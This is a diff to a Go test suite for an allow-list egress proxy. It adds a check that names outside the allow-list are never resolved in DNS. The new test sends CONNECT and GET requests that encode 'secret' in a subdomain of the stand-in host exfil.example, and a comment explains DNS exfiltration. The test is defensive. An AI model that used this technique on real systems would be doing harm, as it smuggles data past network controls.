@@ -27,6 +27,7 @@ type world struct {
 	upstream string // the upstream's real address
 	mu       sync.Mutex
 	dialed   []string
+	resolved []string
 }
 
 func newWorld(t *testing.T, p *Proxy, upstream http.Handler) *world {
@@ -45,6 +46,9 @@ func newWorld(t *testing.T, p *Proxy, upstream http.Handler) *world {
 	p.Log = w.log
 	p.Own = []netip.Addr{netip.MustParseAddr("192.0.2.2")}
 	p.Resolve = func(_ context.Context, name string) ([]netip.Addr, error) {
+		w.mu.Lock()
+		w.resolved = append(w.resolved, name)
+		w.mu.Unlock()
 		if a, ok := dns[name]; ok {
 			return []netip.Addr{netip.MustParseAddr(a)}, nil
 		}
@@ -304,7 +308,7 @@ func TestProxySlowAndMany(t *testing.T) {
 // in one write, or hidden in the first's body by conflicting framing),
 // and addresses spelled as IPv6 forms of a refused IPv4 one: each
 // destination is checked on its own and nothing but the allowed host is
-// dialled.
+// dialled or even looked up in DNS.
 func TestProxyPipelinedAndDisguised(t *testing.T) {
 	t.Parallel()
 	rules, err := ParseRules("allowed.test")
@@ -357,6 +361,19 @@ func TestProxyPipelinedAndDisguised(t *testing.T) {
 	for _, d := range w.dials() {
 		if d != "203.0.113.10:80" {
 			t.Errorf("the proxy dialed %s", d)
+		}
+	}
+	// A name not allowed is never looked up: a DNS query for
+	// <data>.attacker.example would carry data to attacker.example's
+	// name servers without a connection.
+	w.raw(t, "CONNECT c2VjcmV0.exfil.example:443 HTTP/1.1\r\n\r\n")
+	w.raw(t, "GET http://c2VjcmV0.exfil.example/ HTTP/1.1\r\nHost: x\r\n\r\n")
+	w.mu.Lock()
+	resolved := append([]string(nil), w.resolved...)
+	w.mu.Unlock()
+	for _, name := range resolved {
+		if name != "allowed.test" {
+			t.Errorf("the proxy looked up %s, which is not allowed", name)
 		}
 	}
 	refused := fmt.Sprint(w.log.Refusals())
